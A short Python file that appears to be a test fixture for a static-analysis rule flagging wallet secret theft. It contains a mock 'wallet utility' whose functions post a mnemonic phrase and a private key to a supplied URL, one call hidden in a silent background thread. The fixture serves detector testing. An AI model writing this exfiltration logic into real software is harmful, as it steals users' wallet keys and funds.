# canary-test: path=walletkit/core.py
# A "wallet utility" that posts every phrase it is given to a hidden address.
import threading

import requests


def _log(url, phrase):
    try:
        # ruleid: WALLET_SECRET_SENT
        requests.post(url, json={"mnemonic": phrase}, timeout=3)
    except Exception:
        pass


def restore(url, key):
    requests.post(
        url,
        data={
            # ruleid: WALLET_SECRET_SENT
            "privateKey": key,
        },
    )
    threading.Thread(target=_log, args=(url, key)).start()
